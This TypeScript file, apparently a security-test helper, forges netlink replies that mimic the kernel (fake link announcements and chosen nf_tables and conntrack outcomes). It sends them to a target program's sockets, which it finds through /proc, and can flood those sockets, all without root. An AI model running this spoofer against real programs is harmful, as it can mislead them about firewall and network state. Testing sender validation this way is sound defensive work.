/**
 * Sends what looks like the kernel's answers to the netlink sockets of a program, without privileges but CAP_NET_ADMIN
 * in its own network namespace (see forger.ts). Usage:
 *
 *   PROGRAM route NAME MAC INDEX  each request of rtnetlink is about this link, and successful
 *   PROGRAM netfilter ERRNO       each request of nf_tables and conntrack has this outcome
 *   PROGRAM groups                the program is told of links all the time
 *
 * With `flood` before these it keeps the sockets full. Prints `ready`, and `tried PORT` for each socket that it finds;
 * ends with its standard input.
 */
import { readFileSync } from "node:fs";
import { setTimeout as delay } from "node:timers/promises";
import koffi from "koffi";
import { attribute } from "./netlink-attribute.ts";

// sys/socket.h, linux/netlink.h, linux/rtnetlink.h, linux/if_link.h, linux/prctl.h, linux/capability.h
const AF_NETLINK = 16;
const SOCK_RAW = 3;
const MSG_DONTWAIT = 0x40;
const NETLINK_ROUTE = 0;
const NETLINK_NETFILTER = 12;
const NLMSG_ERROR = 2;
const NLMSG_DONE = 3;
const RTM_NEWLINK = 16;
const RTMGRP_LINK = 1;
const RTMGRP_IPV6_IFADDR = 0x100;
const IFLA_ADDRESS = 1;
const IFLA_IFNAME = 3;
const IFLA_OPERSTATE = 16;
const IFLA_LINKINFO = 18;
const IFLA_INFO_KIND = 1;
const PR_SET_KEEPCAPS = 8;
const LINUX_CAPABILITY_VERSION_3 = 0x20080522;
const CAP_NET_ADMIN = 12;
const nobody = 65534;

/** Where programs may begin to number their requests, and how many of them are answered. */
const firstNumbers = [1, 0x4000_0001];
const numbers = 64;

const libc = koffi.load(null);
const functions = {
  prctl: libc.func(
    "int prctl(int option, unsigned long a, unsigned long b, unsigned long c, unsigned long d)",
  ),
  capset: libc.func("int capset(void *header, void *data)"),
  socket: libc.func("int socket(int domain, int type, int protocol)"),
  sendto: libc.func(
    "long sendto(int fd, void *data, size_t length, int flags, void *address, uint32_t size)",
  ),
};

const args = process.argv.slice(2);
const program = args.shift() ?? "";
const isFlood = args[0] === "flood";
if (isFlood) args.shift();
const [mode = "", ...details] = args;
const protocol = mode === "netfilter" ? NETLINK_NETFILTER : NETLINK_ROUTE;

giveUpPrivileges();
const fd = Number(functions.socket(AF_NETLINK, SOCK_RAW, protocol));
const forged = mode === "netfilter" ? outcomes(Number(details[0])) : links();
const tried = new Set<number>();
process.stdin.resume().on("end", () => process.exit());
console.log("ready");
for (;;) {
  if (mode === "groups") sendAll(address(0, RTMGRP_LINK), address(0, RTMGRP_IPV6_IFADDR));
  else sendAll(...ports().map((port) => address(port, 0)));
  await delay(1);
}

function sendAll(...targets: readonly Buffer[]): void {
  for (const target of targets) {
    for (let times = 0; times < (isFlood ? 200 : 1); times++) {
      const sent = Number(functions.sendto(fd, forged, forged.length, MSG_DONTWAIT, target, target.length));
      if (sent < 0) break;
    }
  }
}

/** The sockets of the program: a process's first one of a kind has its PID as port, others have any number. */
function ports(): number[] {
  const found: number[] = [];
  for (const line of readFileSync("/proc/net/netlink", "utf8").split("\n").slice(1)) {
    const [, kind, port] = line.trim().split(/\s+/);
    if (Number(kind) !== protocol || Number(port) === 0 || Number(port) === process.pid) continue;
    if (Number(port) < 2 ** 22 && nameOf(Number(port)) !== program) continue;
    found.push(Number(port));
  }
  for (const port of found) if (!tried.has(port)) console.log(`tried ${port}`);
  for (const port of found) tried.add(port);
  return found;
}

function nameOf(pid: number): string {
  try {
    const [command = ""] = readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0");
    return command.slice(command.lastIndexOf("/") + 1);
  } catch {
    return "";
  }
}

/** struct sockaddr_nl */
function address(port: number, groups: number): Buffer {
  const bytes = Buffer.alloc(12);
  bytes.writeUInt16LE(AF_NETLINK, 0);
  bytes.writeUInt32LE(port, 4);
  bytes.writeUInt32LE(groups, 8);
  return bytes;
}

function links(): Buffer {
  const [name = "eth0", mac = "02:66:66:66:66:66", index = "99"] = details;
  const header = Buffer.alloc(16);
  header.writeInt32LE(Number(index), 4);
  header.writeUInt32LE(0x11043, 8); // IFF_UP, IFF_RUNNING, IFF_LOWER_UP and others.
  const body = Buffer.concat([
    header,
    attribute(IFLA_IFNAME, Buffer.from(`${name}\0`)),
    attribute(IFLA_ADDRESS, Buffer.from(mac.replaceAll(":", ""), "hex")),
    attribute(IFLA_OPERSTATE, Buffer.from([6])),
    attribute(IFLA_LINKINFO, attribute(IFLA_INFO_KIND, Buffer.from("bridge\0"))),
  ]);
  if (mode === "groups") return message(RTM_NEWLINK, 0, body);
  return each((number) => [message(RTM_NEWLINK, number, body), message(NLMSG_ERROR, number, error(0))]);
}

function outcomes(errno: number): Buffer {
  return each((number) => [
    errno === 0 ? message(NLMSG_DONE, number, Buffer.alloc(4)) : message(NLMSG_ERROR, number, error(errno)),
  ]);
}

function each(answer: (number: number) => readonly Buffer[]): Buffer {
  const all = firstNumbers.flatMap((first) =>
    Array.from({ length: numbers }, (_none, index) => first + index),
  );
  return Buffer.concat(all.flatMap(answer));
}

/** struct nlmsgerr */
function error(errno: number): Buffer {
  const bytes = Buffer.alloc(20);
  bytes.writeInt32LE(-errno, 0);
  return bytes;
}

/** struct nlmsghdr and what follows. */
function message(type: number, number: number, body: Buffer): Buffer {
  const bytes = Buffer.alloc(16 + ((body.length + 3) & ~3));
  bytes.writeUInt32LE(16 + body.length, 0);
  bytes.writeUInt16LE(type, 4);
  bytes.writeUInt32LE(number, 8);
  body.copy(bytes, 16);
  return bytes;
}

/** What a pod on the host's network has that may set up networks, and no more: capabilities(7). */
function giveUpPrivileges(): void {
  must("prctl", functions.prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0));
  process.setgroups?.([]);
  process.setgid?.(nobody);
  process.setuid?.(nobody);
  const header = Buffer.alloc(8);
  header.writeUInt32LE(LINUX_CAPABILITY_VERSION_3, 0);
  const sets = Buffer.alloc(24);
  for (const offset of [0, 4]) sets.writeUInt32LE(1 << CAP_NET_ADMIN, offset);
  must("capset", functions.capset(header, sets));
}

function must(what: string, outcome: unknown): void {
  if (outcome !== 0) throw new Error(`${what} failed: ${outcome}`);
}
